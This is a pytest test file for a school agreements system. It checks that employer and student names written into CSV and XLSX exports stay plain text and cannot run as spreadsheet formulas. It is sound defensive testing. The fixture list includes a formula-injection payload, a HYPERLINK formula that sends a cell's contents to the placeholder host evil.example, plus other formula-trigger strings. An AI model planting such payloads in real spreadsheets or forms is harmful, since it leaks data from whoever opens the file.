"""Text typed by an employer, a student or a school never becomes a live formula in an
export: read back, XLSX cells are strings holding exactly the typed text, and CSV cells
that could start a formula carry a leading '."""

import csv
import io

import pytest
from openpyxl import load_workbook

from agreements.models import Agreement, Registration
from agreements.registrations import services as registrations
from reviews.exporting import COLUMNS
from reviews.models import ExportJob
from reviews.tasks import export_now
from tests import factories as f

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'
DANGEROUS = [LEAK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


def _export(user, fmt) -> bytes:
    job = f.make_export(user, fmt=fmt)
    export_now(job.pk)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE
    with job.file.open("rb") as handle:
        return handle.read()


def _xlsx_cells(data: bytes, heading: str):
    sheet = load_workbook(io.BytesIO(data)).active
    column = COLUMNS.index(heading)
    return [row[column] for row in sheet.iter_rows(min_row=2)]


def _csv_values(data: bytes, heading: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    return [row[heading] for row in rows]


@pytest.mark.parametrize("name", DANGEROUS)
def test_an_employer_name_is_plain_text_in_the_xlsx_export(signed, school_reviewer, name):
    Agreement.objects.filter(pk=signed.pk).update(unit_name=name)  # as signed
    [cell] = _xlsx_cells(_export(school_reviewer, "xlsx"), "单位名称")
    assert cell.data_type == "s"  # not "f": nothing runs when the file is opened
    assert cell.value == name  # exactly what was typed, no added quote
    assert cell.quotePrefix  # stays text if a reviewer edits the cell


@pytest.mark.parametrize("name", DANGEROUS)
def test_an_employer_name_is_neutralised_in_the_csv_export(signed, school_reviewer, name):
    Agreement.objects.filter(pk=signed.pk).update(unit_name=name)  # as signed
    assert _csv_values(_export(school_reviewer, "csv"), "单位名称") == ["'" + name]


def test_a_unit_name_typed_by_a_student_stays_text_in_both_exports(student, school_reviewer):
    item = registrations.registration_save_draft(
        student=student, path="paper", values={"unit_name": LEAK}
    )
    Registration.objects.filter(pk=item.pk).update(status=Registration.Status.APPROVED)

    [cell] = _xlsx_cells(_export(school_reviewer, "xlsx"), "单位名称")
    assert (cell.value, cell.data_type) == (LEAK, "s")
    assert _csv_values(_export(school_reviewer, "csv"), "单位名称") == ["'" + LEAK]


def test_ordinary_values_are_unchanged(signed, school_reviewer):
    """Names, codes and the dates we write ourselves are not touched."""
    data = _export(school_reviewer, "csv")
    assert _csv_values(data, "单位名称") == [signed.employer.name]
    assert _csv_values(data, "协议书编号") == [signed.number]
    [cell] = _xlsx_cells(_export(school_reviewer, "xlsx"), "单位名称")
    assert (cell.value, cell.quotePrefix) == (signed.employer.name, False)
